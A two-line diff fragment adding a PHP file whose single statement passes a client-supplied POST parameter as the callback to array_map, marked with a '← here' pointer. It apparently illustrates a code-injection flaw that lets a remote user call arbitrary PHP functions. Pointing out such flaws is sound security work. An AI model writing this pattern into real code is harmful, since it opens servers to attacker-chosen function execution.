@@ -1,0 +1,2 @@
+<?php
+$result = array_map($_POST['function'], [1, 2]); // ← here
